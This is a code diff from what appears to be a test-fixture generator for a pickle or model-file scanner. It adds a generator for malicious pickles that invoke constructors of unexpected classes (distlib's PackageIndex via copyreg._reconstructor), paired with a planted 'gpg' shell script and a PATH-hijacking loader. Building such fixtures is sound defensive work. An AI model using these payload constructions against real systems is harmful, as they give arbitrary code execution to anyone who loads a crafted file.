@@ -1,7 +1,7 @@
 """Constructors of unknown classes that need no arguments: they run what the folder, the path or the settings say."""
 from makefixtures.asm import asm
 
-from ..instances import items, named, value, whole
+from ..instances import called, items, named, value, whole
 from ..registry import SHELL, Attack, kind
 
 SCRIPT = f'#!/bin/sh\n{SHELL}\n'.encode()
@@ -36,3 +36,14 @@ def queue():
     loader = 'import os, pickle\npickle.load(open(path, "rb"))\nif os.path.exists("huey.db"): open(os.environ["MODELGATE_MARKER"], "w").close()'
     for _, code in calls('huey.api', 'SqliteHuey'):
         yield Attack('m.pkl', whole(code), loader=loader)
+
+
+@kind('a base of an instance is an unknown class, whose constructor is called')
+def bases():
+    program = 'gpg'
+    loader = (f'import os, pickle\nos.chmod({program!r}, 0o755)\nos.environ["PATH"] = os.getcwd() + ":" + os.environ["PATH"]\n'
+              'pickle.load(open(path, "rb"))')
+    cls = named('distlib.index', 'PackageIndex')
+    for last in (value(None), value(0)):
+        yield Attack('m.pkl', {'m.pkl': whole(called('copyreg', '_reconstructor', cls, cls, last)), program: SCRIPT}, loader=loader)
+        yield Attack('m.pkl', {'m.pkl': whole(items(value(1), called('copyreg', '_reconstructor', cls, cls, last))), program: SCRIPT}, loader=loader)
